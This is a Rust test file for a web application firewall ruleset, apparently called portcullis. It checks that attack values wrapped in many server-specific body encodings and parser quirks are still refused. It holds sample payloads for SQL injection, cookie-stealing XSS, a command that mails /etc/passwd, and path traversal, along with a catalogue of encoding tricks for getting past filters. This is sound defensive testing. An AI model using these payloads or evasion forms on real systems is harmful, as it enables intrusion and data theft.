//! What common servers accept as a body, and what the readers here make of it: each row of the table in
//! `rules/README.md` is an attack in a form that some server reads, and is refused at level 1, either because it
//! was read or because the form itself is scored.

use base64::Engine;
use base64::prelude::BASE64_STANDARD;
use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
use portcullis::rules;
use portcullis::ruleset::EntryPoint;
use portcullis::ruleset::ScoredRuleset;

use crate::support;

/// One of each large family: found in plain form at level 1.
const ATTACKS: [&str; 4] = [
    "1' UNION SELECT login,password FROM users-- -",
    "<script>alert(document.cookie)</script>",
    "; cat /etc/passwd | mail a@example.com",
    "../../../../etc/passwd",
];
const HARMLESS: [&str; 3] = ["the blue one, please", "17", "M\u{fc}ller & Söhne: O'Brien"];

/// What is done with a form of request.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Here {
    /// A rule of the attack's family finds it; a harmless value in the same form passes.
    Read,
    /// The form is scored, and refused whatever is in it.
    Scored,
    /// The attack is refused, because it is read or because it is in this form; a harmless value passes.
    Guarded,
}

struct Row {
    what: &'static str,
    servers: &'static str,
    here: Here,
    fields: &'static [(&'static str, &'static str)],
    target: fn(&str) -> String,
    body: fn(&str) -> Vec<u8>,
}

const FORM: &str = "application/x-www-form-urlencoded";
const JSON: &str = "application/json";
const MULTIPART: &str = "multipart/form-data; boundary=B";
const XML: &str = "application/xml";

fn coded(value: &str) -> String {
    utf8_percent_encode(value, NON_ALPHANUMERIC).to_string()
}

fn form(value: &str) -> Vec<u8> {
    format!("id=7&q={}", coded(value)).into_bytes()
}

fn json(value: &str) -> Vec<u8> {
    serde_json::json!({"id": 7, "q": value}).to_string().into_bytes()
}

/// JSON whose strings are all escapes, so that only a reader of JSON sees them.
fn escaped_json(value: &str) -> Vec<u8> {
    format!("{{\"id\":7,\"q\":\"{}\"}}", escapes(value)).into_bytes()
}

fn escapes(value: &str) -> String {
    value.encode_utf16().map(|unit| format!("\\u{unit:04x}")).collect()
}

fn entities(value: &str) -> String {
    let reference = |letter: char| match letter {
        'a'..='z' | 'A'..='Z' | '0'..='9' | ' ' => letter.to_string(),
        _ => format!("&#{};", u32::from(letter)),
    };
    value.chars().map(reference).collect()
}

fn xml(value: &str) -> Vec<u8> {
    format!("<r><id>7</id><q>{}</q></r>", entities(value)).into_bytes()
}

fn utf16(text: &[u8], little: bool, mark: bool) -> Vec<u8> {
    let text = std::str::from_utf8(text).unwrap();
    let mark = if mark { "\u{feff}" } else { "" };
    let units = mark.encode_utf16().chain(text.encode_utf16());
    units.flat_map(|unit| if little { unit.to_le_bytes() } else { unit.to_be_bytes() }).collect()
}

/// One part of a form with these header lines, between others.
fn part(headers: &str, content: &str) -> Vec<u8> {
    format!(
        "--B\r\nContent-Disposition: form-data; name=\"id\"\r\n\r\n7\r\n--B\r\n{headers}\r\n\r\n{content}\r\n--B--\r\n"
    )
    .into_bytes()
}

const DISPOSITION: &str = "Content-Disposition: form-data; name=\"q\"";

fn quoted_printable(value: &str) -> String {
    value.bytes().map(|byte| format!("={byte:02X}")).collect()
}

/// Bytes of UTF-8 letters that are longer than they may be.
fn overlong(value: &str) -> Vec<u8> {
    value
        .bytes()
        .flat_map(|byte| match byte {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | 128.. => vec![byte],
            sign => vec![0xc0 | (sign >> 6), 0x80 | (sign & 0x3f)],
        })
        .collect()
}

fn no_body(_: &str) -> Vec<u8> {
    Vec::new()
}

fn search(_: &str) -> String {
    "/search".to_owned()
}

macro_rules! row {
    ($what:literal, $servers:literal, $here:ident, [$($name:literal : $value:expr),*], $body:expr) => {
        row!($what, $servers, $here, [$($name: $value),*], $body, search)
    };
    ($what:literal, $servers:literal, $here:ident, [$($name:literal : $value:expr),*], $body:expr, $target:expr) => {
        Row { what: $what, servers: $servers, here: Here::$here, fields: &[$(($name, $value)),*], target: $target, body: $body }
    };
}

fn rows() -> Vec<Row> {
    [
        content_types(),
        character_sets(),
        json_bodies(),
        multipart_bodies(),
        xml_bodies(),
        forms_and_queries(),
        cookies_and_texts(),
    ]
    .into_iter()
    .flatten()
    .collect()
}

fn content_types() -> Vec<Row> {
    vec![
        row!("a form without a content type", "Flask, raw readers", Read, [], form),
        row!("JSON without a content type", "Go, Flask, raw readers", Read, [], escaped_json),
        row!("XML without a content type", "Go, raw readers", Read, [], xml),
        row!("JSON without a content type, with text behind it", "Go", Read, [], |v| [
            &escaped_json(v)[..],
            b" x"
        ]
        .concat()),
        row!("JSON without a content type, with comments", "raw readers", Read, [], |v| [
            b"{/*x*/\"id\":7,",
            &escaped_json(v)[1..]
        ]
        .concat()),
        row!("XML without a content type, with text behind it", "Go", Read, [], |v| [&xml(v)[..], b" x"]
            .concat()),
        row!("JSON as `text/plain`", "Go, raw readers", Read, ["Content-Type": "text/plain"], escaped_json),
        row!("JSON as a form", "PHP, Go, raw readers", Read, ["Content-Type": FORM], escaped_json),
        row!("JSON as a form, behind white space", "PHP, Go, raw readers", Read, ["Content-Type": FORM], |v| [b"\r\n ", &escaped_json(v)[..]].concat()),
        row!("JSON as a form, with text behind it", "Go, raw readers", Read, ["Content-Type": FORM], |v| [&escaped_json(v)[..], b" x"].concat()),
        row!("JSON as a picture", "Go, raw readers", Read, ["Content-Type": "image/png"], escaped_json),
        row!("JSON as `application/octet-stream`", "Go, raw readers", Read, ["Content-Type": "application/octet-stream"], escaped_json),
        row!("JSON as an unknown type", "Go, raw readers", Read, ["Content-Type": "application/x-svc"], escaped_json),
        row!("XML as a form", "raw readers", Scored, ["Content-Type": FORM], xml),
        row!("XML as an unknown type", "raw readers", Read, ["Content-Type": "application/x-svc"], xml),
        row!("XML as `text/plain`", "raw readers", Read, ["Content-Type": "text/plain"], xml),
        row!("a form as an unknown type", "raw readers", Read, ["Content-Type": "application/x-svc"], form),
        row!("a form as a picture", "raw readers", Read, ["Content-Type": "image/png"], form),
        row!("a form as the older type `x-url-encoded`", "Flask", Read, ["Content-Type": "application/x-url-encoded"], form),
        row!("a text as an unknown type", "raw readers", Read, ["Content-Type": "application/x-svc"], |v| v.as_bytes().to_vec()),
        row!("a text as `application/octet-stream`", "raw readers", Read, ["Content-Type": "application/octet-stream"], |v| v.as_bytes().to_vec()),
        row!("a type with a word behind a space", "PHP", Read, ["Content-Type": "application/x-www-form-urlencoded x"], form),
        row!("a type with a second behind a comma", "PHP, Rails", Read, ["Content-Type": "application/x-www-form-urlencoded, text/plain"], form),
        row!("a type in capitals", "all", Read, ["Content-Type": "APPLICATION/JSON"], escaped_json),
        row!("a type with an empty parameter", "all", Read, ["Content-Type": "application/json;"], escaped_json),
        row!("a type with a parameter of no name", "all", Read, ["Content-Type": "application/json; =x; ;charset=utf-8"], escaped_json),
        row!("a JSON type with a suffix", "Rails, ASP.NET, Spring", Read, ["Content-Type": "application/vnd.svc.v1+json"], escaped_json),
        row!("JSON as `application/x-json`", "raw readers", Read, ["Content-Type": "application/x-json"], escaped_json),
        row!("JSON as `application/csp-report`", "raw readers", Read, ["Content-Type": "application/csp-report"], escaped_json),
        row!("two content types", "each takes another", Scored, ["Content-Type": "text/plain", "Content-Type": FORM], form),
        row!("a form as JSON", "PHP, Go", Scored, ["Content-Type": JSON], form),
        row!("JSON as XML", "raw readers", Scored, ["Content-Type": XML], escaped_json),
        row!("JSON as multipart", "raw readers", Scored, ["Content-Type": MULTIPART], escaped_json),
        row!("XML as JSON", "raw readers", Scored, ["Content-Type": JSON], xml),
        row!("`multipart/mixed`", "Rails, Spring", Read, ["Content-Type": "multipart/mixed; boundary=B"], |v| part(DISPOSITION, v)),
        row!("`multipart/related` with parts of no name", "Spring, raw readers", Read, ["Content-Type": "multipart/related; boundary=B"], |v| part("Content-Type: text/plain", v)),
    ]
}

fn character_sets() -> Vec<Row> {
    vec![
        row!("JSON with a byte order mark", "ASP.NET, Spring", Read, ["Content-Type": JSON], |v| [b"\xef\xbb\xbf", &escaped_json(v)[..]].concat()),
        row!("JSON in UTF-16 with a mark", "Flask, Django, ASP.NET", Read, ["Content-Type": JSON], |v| utf16(&json(v), true, true)),
        row!("JSON in UTF-16 without a mark", "Flask, Django, Spring", Read, ["Content-Type": JSON], |v| utf16(&json(v), false, false)),
        row!("JSON that is declared as UTF-16", "ASP.NET", Scored, ["Content-Type": "application/json; charset=utf-16"], |v| utf16(&json(v), true, false)),
        row!("XML in UTF-16 with a mark", "all", Read, ["Content-Type": XML], |v| utf16(&xml(v), true, true)),
        row!("XML in UTF-16 without a mark", "all", Read, ["Content-Type": XML], |v| utf16(&xml(v), false, false)),
        row!("XML that declares UTF-7", "PHP, Spring", Scored, ["Content-Type": XML], |v| format!("<?xml version='1.0' encoding='UTF-7'?><r>+{}-</r>", BASE64_STANDARD.encode(utf16(v.as_bytes(), false, false)).trim_end_matches('=')).into_bytes()),
        row!("XML that declares EBCDIC", "Spring", Scored, ["Content-Type": XML], |v| format!("<?xml version='1.0' encoding='IBM037'?><r>{v}</r>").into_bytes()),
        row!("a text in UTF-16", "raw readers", Read, ["Content-Type": "text/plain"], |v| utf16(v.as_bytes(), true, true)),
        row!("a form that declares IBM037", "ASP.NET, Django", Scored, ["Content-Type": "application/x-www-form-urlencoded; charset=ibm037"], form),
        row!("a form that declares UTF-16", "Django, ASP.NET", Scored, ["Content-Type": "application/x-www-form-urlencoded; charset=utf-16"], form),
        row!("overlong UTF-8 in a form", "older Java and PHP", Scored, ["Content-Type": FORM], |v| [b"q=", percent_encoding::percent_encode(&overlong(v), NON_ALPHANUMERIC).to_string().as_bytes()].concat()),
        row!("overlong UTF-8 in JSON", "older Java and PHP", Scored, ["Content-Type": JSON], |v| [b"{\"q\":\"", &overlong(v)[..], b"\"}"].concat()),
        row!("`%u` in a form", "ASP", Read, ["Content-Type": FORM], |v| format!("q={}", v.encode_utf16().map(|unit| format!("%u{unit:04x}")).collect::<String>()).into_bytes()),
        row!("full-width signs in a form", "databases that fold them", Guarded, ["Content-Type": FORM], |v| form(&v.chars().map(|c| if matches!(c, '\'' | '<' | '.') { char::from_u32(u32::from(c) + 0xfee0).unwrap() } else { c }).collect::<String>())),
    ]
}

fn json_bodies() -> Vec<Row> {
    vec![
        row!("JSON all in escapes", "all", Read, ["Content-Type": JSON], escaped_json),
        row!("the name of a JSON member", "all", Read, ["Content-Type": JSON], |v| format!("{{\"{}\":1}}", escapes(v)).into_bytes()),
        row!("a JSON string alone", "PHP, Flask, Rails", Read, ["Content-Type": JSON], |v| format!("\"{}\"", escapes(v)).into_bytes()),
        row!("JSON within a JSON string", "applications", Read, ["Content-Type": JSON], |v| serde_json::json!({"q": String::from_utf8(escaped_json(v)).unwrap()}).to_string().into_bytes()),
        row!("JSON within a form", "applications", Read, ["Content-Type": FORM], |v| form(&String::from_utf8(escaped_json(v)).unwrap())),
        row!("JSON within a form, with text behind it", "Go", Read, ["Content-Type": FORM], |v| form(&format!("{} x", String::from_utf8(escaped_json(v)).unwrap()))),
        row!("JSON with comments", "ASP.NET, Spring if set", Scored, ["Content-Type": JSON], |v| [b"{/*x*/\"id\":7,", &escaped_json(v)[1..]].concat()),
        row!("JSON with NaN", "Flask, Django", Read, ["Content-Type": JSON], |v| format!("{{\"n\":[NaN,Infinity,-Infinity],\"q\":\"{}\"}}", escapes(v)).into_bytes()),
        row!("JSON with text behind it", "Go, Spring", Scored, ["Content-Type": JSON], |v| [&escaped_json(v)[..], b"x"].concat()),
        row!("two JSON values in a row", "Go", Scored, ["Content-Type": JSON], |v| [b"{}", &escaped_json(v)[..]].concat()),
        row!("JSON by lines", "applications", Read, ["Content-Type": "application/x-ndjson"], |v| [b"{\"id\":1}\n", &escaped_json(v)[..], b"\n{}\n"].concat()),
        row!("JSON with a member twice", "each takes another", Read, ["Content-Type": JSON], |v| format!("{{\"q\":\"{}\",\"q\":\"x\"}}", escapes(v)).into_bytes()),
        row!("JSON 70 levels deep", "all", Scored, ["Content-Type": JSON], |v| [&b"[".repeat(70)[..], &escaped_json(v), &b"]".repeat(70)].concat()),
        row!("JSON with lone surrogates", "each reads other letters", Read, ["Content-Type": JSON], |v| format!("{{\"q\":\"\\ud800{}\\udc00\"}}", escapes(v)).into_bytes()),
        row!("JSON in single quotes", "ASP.NET, Ruby", Scored, ["Content-Type": JSON], |v| format!("{{'q':'{}'}}", escapes(v)).into_bytes()),
        row!("JSON with names without quotes", "ASP.NET", Scored, ["Content-Type": JSON], |v| format!("{{q:\"{}\"}}", escapes(v)).into_bytes()),
        row!("JSON with a comma at the end", "ASP.NET, Spring if set", Scored, ["Content-Type": JSON], |v| format!("{{\"q\":\"{}\",}}", escapes(v)).into_bytes()),
        row!("JSON with a line break in a string", "ASP.NET, Python if set", Scored, ["Content-Type": JSON], |v| format!("{{\"q\":\"\n{}\"}}", escapes(v)).into_bytes()),
        row!("JSON with numbers that are none", "ASP.NET", Scored, ["Content-Type": JSON], |v| format!("{{\"n\":0x1f,\"q\":\"{}\"}}", escapes(v)).into_bytes()),
        row!("JSON with a NUL behind it", "PHP", Scored, ["Content-Type": JSON], |v| [&escaped_json(v)[..], b"\0"].concat()),
        row!("JSON that is cut off", "streaming readers", Scored, ["Content-Type": JSON], |v| escaped_json(v)[..escaped_json(v).len() - 1].to_vec()),
    ]
}

fn multipart_bodies() -> Vec<Row> {
    vec![
        row!("a field", "all", Read, ["Content-Type": MULTIPART], |v| part(DISPOSITION, v)),
        row!("the name of a field", "all", Read, ["Content-Type": MULTIPART], |v| part(&format!("Content-Disposition: form-data; name=\"{}\"", v.replace('"', "\\\"")), "x")),
        row!("multipart without an end", "PHP, Go, Flask", Scored, ["Content-Type": MULTIPART], |v| { let whole = part(DISPOSITION, v); whole[..whole.len() - 9].to_vec() }),
        row!("two boundaries", "each takes another", Scored, ["Content-Type": "multipart/form-data; boundary=A; boundary=B"], |v| part(DISPOSITION, v)),
        row!("a boundary in continued parameters", "Go", Scored, ["Content-Type": "multipart/form-data; boundary=A; boundary*0=B"], |v| part(DISPOSITION, v)),
        row!("a boundary with a charset", "Go", Scored, ["Content-Type": "multipart/form-data; boundary*=utf-8''B"], |v| part(DISPOSITION, v)),
        row!("a boundary in quotes", "all", Read, ["Content-Type": "multipart/form-data; boundary=\"B\""], |v| part(DISPOSITION, v)),
        row!("a boundary with an escape in quotes", "Go, Spring", Scored, ["Content-Type": "multipart/form-data; boundary=\"\\B\""], |v| part(DISPOSITION, v)),
        row!("a boundary with a space behind", "PHP", Scored, ["Content-Type": "multipart/form-data; boundary=B C"], |v| part(DISPOSITION, v)),
        row!("a boundary with a comma behind", "PHP, Rails", Read, ["Content-Type": "multipart/form-data; boundary=B,C"], |v| part(DISPOSITION, v)),
        row!("a boundary line with white space", "all", Scored, ["Content-Type": MULTIPART], |v| String::from_utf8(part(DISPOSITION, v)).unwrap().replace("--B\r\n", "--B \t\r\n").into_bytes()),
        row!("a part before the first boundary", "Go, Spring", Scored, ["Content-Type": MULTIPART], |v| [format!("--A\r\n{DISPOSITION}\r\n\r\n{v}\r\n").as_bytes(), &part("Content-Disposition: form-data; name=\"x\"", "y")].concat()),
        row!("a part behind the last boundary", "servers that read on", Scored, ["Content-Type": MULTIPART], |v| [&part("Content-Disposition: form-data; name=\"x\"", "y"), format!("--B\r\n{DISPOSITION}\r\n\r\n{v}\r\n--B--\r\n").as_bytes()].concat()),
        row!("multipart with LF", "PHP, Go, Rails", Read, ["Content-Type": MULTIPART], |v| String::from_utf8(part(DISPOSITION, v)).unwrap().replace("\r\n", "\n").into_bytes()),
        row!("multipart with CR", "lenient readers", Scored, ["Content-Type": MULTIPART], |v| String::from_utf8(part(DISPOSITION, v)).unwrap().replace("\r\n", "\r").into_bytes()),
        row!("a part header that is folded", "Flask, Spring", Scored, ["Content-Type": MULTIPART], |v| part("Content-Disposition: form-data;\r\n name=\"q\"", v)),
        row!("a part with two dispositions", "each takes another", Scored, ["Content-Type": MULTIPART], |v| part(&format!("Content-Disposition: form-data; name=\"x\"; filename=\"a.txt\"\r\n{DISPOSITION}"), v)),
        row!("a part with two names", "each takes another", Scored, ["Content-Type": MULTIPART], |v| part("Content-Disposition: form-data; name=\"x\"; name=\"q\"", v)),
        row!("a part with parameters in pieces", "Go, Flask", Scored, ["Content-Type": MULTIPART], |v| part("Content-Disposition: form-data; name*0=\"q\"; name*1=\"x\"; name=\"y\"", v)),
        row!("a part with a name in single quotes", "PHP", Scored, ["Content-Type": MULTIPART], |v| part("Content-Disposition: form-data; name='q'", v)),
        row!("a part without semicolons", "lenient readers", Scored, ["Content-Type": MULTIPART], |v| part("Content-Disposition: form-data; name=\"q\" filename=\"x.txt\"", v)),
        row!("a part of another disposition", "Flask, Rails", Read, ["Content-Type": MULTIPART], |v| part("Content-Disposition: attachment; name=\"q\"", v)),
        row!("a part with a space before the colon", "PHP, Flask", Read, ["Content-Type": MULTIPART], |v| part("Content-Disposition : form-data; name=\"q\"", v)),
        row!("a part without a name", "PHP, Spring", Scored, ["Content-Type": MULTIPART], |v| part("Content-Disposition: form-data", v)),
        row!("a part in Base64", "Django", Read, ["Content-Type": MULTIPART], |v| part(&format!("{DISPOSITION}\r\nContent-Transfer-Encoding: base64"), &BASE64_STANDARD.encode(v))),
        row!("a part in quoted-printable", "Go", Read, ["Content-Type": MULTIPART], |v| part(&format!("{DISPOSITION}\r\nContent-Transfer-Encoding: quoted-printable"), &quoted_printable(v))),
        row!("a part that only says that it is in Base64", "all but Django", Read, ["Content-Type": MULTIPART], |v| part(&format!("{DISPOSITION}\r\nContent-Transfer-Encoding: base64"), v)),
        row!("a part in UTF-16", "Spring, ASP.NET, Rails", Scored, ["Content-Type": MULTIPART], |v| part(&format!("{DISPOSITION}\r\nContent-Type: text/plain; charset=utf-16le"), v)),
        row!("a part of JSON", "Spring", Read, ["Content-Type": MULTIPART], |v| part(&format!("{DISPOSITION}\r\nContent-Type: application/json"), &String::from_utf8(escaped_json(v)).unwrap())),
        row!("a file of JSON", "Spring", Read, ["Content-Type": MULTIPART], |v| part("Content-Disposition: form-data; name=\"q\"; filename=\"blob\"\r\nContent-Type: application/json", &String::from_utf8(escaped_json(v)).unwrap())),
        row!("a file of JSON with text behind it", "Go, Spring", Read, ["Content-Type": MULTIPART], |v| part("Content-Disposition: form-data; name=\"q\"; filename=\"blob\"\r\nContent-Type: application/json", &format!("{}x", String::from_utf8(escaped_json(v)).unwrap()))),
        row!("a multipart part within a part", "older readers", Scored, ["Content-Type": MULTIPART], |v| part("Content-Disposition: form-data; name=\"q\"\r\nContent-Type: multipart/mixed; boundary=C", &format!("--C\r\nContent-Disposition: attachment\r\n\r\n{v}\r\n--C--\r\n"))),
        row!("150 parts", "all", Scored, ["Content-Type": MULTIPART], |v| [format!("--B\r\n{DISPOSITION}\r\n\r\nx\r\n").repeat(150).as_bytes(), &part(DISPOSITION, v)].concat()),
    ]
}

fn xml_bodies() -> Vec<Row> {
    vec![
        row!("XML in character references", "all", Read, ["Content-Type": XML], xml),
        row!("XML in a CDATA section", "all", Read, ["Content-Type": XML], |v| format!("<r><q><![CDATA[{v}]]></q></r>").into_bytes()),
        row!("an XML attribute", "all", Read, ["Content-Type": XML], |v| format!("<r><q v=\"{}\"/></r>", entities(v)).into_bytes()),
        row!("XML split by comments", "all", Read, ["Content-Type": XML], |v| format!("<r><q>{}<!-- x -->{}</q></r>", entities(&v[..1]), entities(&v[1..])).into_bytes()),
        row!("XML with entities of its own", "PHP, Spring", Scored, ["Content-Type": XML], |v| format!("<!DOCTYPE r [<!ENTITY x \"{}\">]><r>&x;</r>", entities(v)).into_bytes()),
        row!("XML with a document type elsewhere", "PHP, Spring", Scored, ["Content-Type": XML], |_| b"<!DOCTYPE r SYSTEM 'http://a.example/x.dtd'><r>&x;</r>".to_vec()),
        row!("XML with a public document type", "PHP, Spring", Scored, ["Content-Type": XML], |_| b"<!DOCTYPE r PUBLIC '-//x//y' 'http://a.example/x.dtd'><r>&x;</r>".to_vec()),
        row!("XML that is cut off", "streaming readers", Scored, ["Content-Type": XML], |v| { let whole = xml(v); whole[..whole.len() - 4].to_vec() }),
        row!("XML with two roots", "streaming readers", Scored, ["Content-Type": XML], |v| [b"<a/>", &xml(v)[..]].concat()),
        row!("XML-RPC", "PHP", Read, ["Content-Type": "text/xml"], |v| format!("<?xml version=\"1.0\"?><methodCall><methodName>x</methodName><params><param><value><string>{}</string></value></param></params></methodCall>", entities(v)).into_bytes()),
        row!("SOAP", "Spring, ASP.NET", Read, ["Content-Type": "application/soap+xml; charset=utf-8; action=\"x\""], |v| format!("<s:Envelope xmlns:s=\"http://www.w3.org/2003/05/soap-envelope\"><s:Body><q>{}</q></s:Body></s:Envelope>", entities(v)).into_bytes()),
        row!("XML 70 levels deep", "all", Scored, ["Content-Type": XML], |v| [&b"<a>".repeat(70)[..], &xml(v), &b"</a>".repeat(70)].concat()),
    ]
}

fn forms_and_queries() -> Vec<Row> {
    vec![
        row!("a form", "all", Read, ["Content-Type": FORM], form),
        row!("the name of a field of a form", "all", Read, ["Content-Type": FORM], |v| format!("{}=1", coded(v)).into_bytes()),
        row!("a form with `;` between fields", "older Python, Ruby and Java", Read, ["Content-Type": FORM], |v| format!("id=7;q={}", coded(v)).into_bytes()),
        row!(
            "a query with `;` between fields",
            "older Python, Ruby and Java",
            Read,
            [],
            no_body,
            |v| format!("/search?id=7;q={}", coded(v))
        ),
        row!("a form with `+` for spaces", "all", Read, ["Content-Type": FORM], |v| format!("q={}", coded(v).replace("%20", "+")).into_bytes()),
        row!("a form with raw signs", "all", Read, ["Content-Type": FORM], |v| format!("q={}", v.replace('&', "%26").replace('+', "%2B")).into_bytes()),
        row!("a form that is encoded twice", "applications that decode", Read, ["Content-Type": FORM], |v| form(&coded(v))),
        row!("a form with malformed escapes", "each reads other letters", Read, ["Content-Type": FORM], |v| format!("x=%zz%&q={}%", coded(v)).into_bytes()),
        row!("a field in brackets", "PHP, Express, Rails", Read, ["Content-Type": FORM], |v| format!("a[b][]={}", coded(v)).into_bytes()),
        row!("a field twice", "each takes another", Read, ["Content-Type": FORM], |v| format!("q=x&q={}", coded(v)).into_bytes()),
        row!("a body on a GET", "Flask, Express", Read, ["Content-Type": FORM, ":method": "GET"], form),
        row!("a query on a POST", "all", Read, ["Content-Type": FORM], |_| b"a=b".to_vec(), |v| format!("/search?q={}", coded(v))),
        row!("the name of a query field", "all", Read, [], no_body, |v| format!("/search?{}", coded(v))),
        row!("a query with `%u`", "ASP", Scored, [], no_body, |v| format!(
            "/search?q={}",
            v.encode_utf16().map(|unit| format!("%u{unit:04x}")).collect::<String>()
        )),
        row!("a segment of the path", "routers", Read, [], no_body, |v| format!("/item/{}", coded(v))),
        row!("a parameter of a path segment", "Spring", Read, [], no_body, |v| format!(
            "/item;v={}/x",
            coded(v)
        )),
    ]
}

fn cookies_and_texts() -> Vec<Row> {
    vec![
        row!("a cookie that is encoded", "PHP, Express", Read, [":cookie": "q="], no_body),
        row!("a cookie in quotes with octal escapes", "Django, Flask", Read, [":octal": "q="], no_body),
        row!("a GraphQL document", "GraphQL servers", Read, ["Content-Type": "application/graphql"], |v| format!("{{ user(name: {}) {{ id }} }}", serde_json::json!(v)).into_bytes()),
        row!("a GraphQL variable", "GraphQL servers", Read, ["Content-Type": JSON], |v| format!("{{\"query\":\"query($n:String){{user(name:$n){{id}}}}\",\"variables\":{{\"n\":\"{}\"}}}}", escapes(v)).into_bytes()),
        row!("YAML", "Rails, applications", Read, ["Content-Type": "application/yaml"], |v| format!("id: 7\nq: {}\n", serde_json::json!(v)).into_bytes()),
    ]
}

/// The rules of families that look at values: their numbers begin so.
const FAMILIES: std::ops::RangeInclusive<u64> = 30..=51;

struct Judged {
    is_refused: bool,
    /// Whether a rule that looks at values matched.
    is_read: bool,
    rules: Vec<u64>,
}

fn judge(entry_point: &EntryPoint, row: &Row, value: &str) -> Judged {
    let coded_cookie = format!("q={}", coded(value));
    let octal: String = value
        .bytes()
        .map(|b| if b.is_ascii_alphanumeric() { char::from(b).to_string() } else { format!("\\{b:03o}") })
        .collect();
    let octal_cookie = format!("q=\"{octal}\"");
    let (mut method, mut fields) = (None, Vec::new());
    for (name, field) in row.fields {
        match *name {
            ":method" => method = Some(*field),
            ":cookie" => fields.push(("Cookie", coded_cookie.as_bytes())),
            ":octal" => fields.push(("Cookie", octal_cookie.as_bytes())),
            _ => fields.push((*name, field.as_bytes())),
        }
    }
    let verdict = support::judge(entry_point, method, &(row.target)(value), &fields, (row.body)(value));
    let rules: Vec<u64> = verdict.matches.iter().map(|found| found.rule).collect();
    Judged {
        is_refused: support::is_refused(&verdict),
        is_read: rules.iter().any(|rule| FAMILIES.contains(&(rule / 1000))),
        rules,
    }
}

#[test]
fn what_a_server_reads_is_read_here_or_scored() {
    let rules = rules::load(None, None).unwrap().0;
    let entry_point = EntryPoint::scoring(ScoredRuleset::short_form(&rules.program, &rules.owasp, 1, 5));
    let mut wrong = Vec::new();
    let rows = rows();
    for row in &rows {
        for value in ATTACKS {
            let judged = judge(&entry_point, row, value);
            if !judged.is_refused {
                wrong.push(format!("BYPASS {}: {value} {:?}", row.what, judged.rules));
            } else if row.here == Here::Read && !judged.is_read {
                wrong.push(format!("not read {}: {value} {:?}", row.what, judged.rules));
            }
        }
        // Of a value without signs some forms are no other than the plain one.
        for value in HARMLESS.into_iter().filter(|value| row.here != Here::Scored || value.contains(' ')) {
            let judged = judge(&entry_point, row, value);
            if judged.is_refused != (row.here == Here::Scored) {
                wrong
                    .push(format!("harmless {} {}: {value} {:?}", judged.is_refused, row.what, judged.rules));
            }
        }
    }
    assert!(rows.len() > 125, "{}", rows.len());
    assert!(wrong.is_empty(), "{} of {} rows\n{}", wrong.len(), rows.len(), wrong.join("\n"));
}

#[test]
fn the_readme_has_the_table() {
    let readme = include_str!("../../rules/README.md");
    let table: Vec<String> = rows()
        .iter()
        .map(|row| {
            let here = match row.here {
                Here::Read => "read",
                Here::Scored => "scored",
                Here::Guarded => "read or scored",
            };
            format!("| {} | {} | {here} |", row.what, row.servers)
        })
        .collect();
    let from = readme.find("| form | who reads it | here |").unwrap();
    let to = readme[from..].find("\n\n").map_or(readme.len(), |end| from + end);
    let listed: Vec<&str> = readme[from..to].lines().skip(2).collect();
    assert_eq!(listed, table, "the table in rules/README.md is\n{}", table.join("\n"));
}
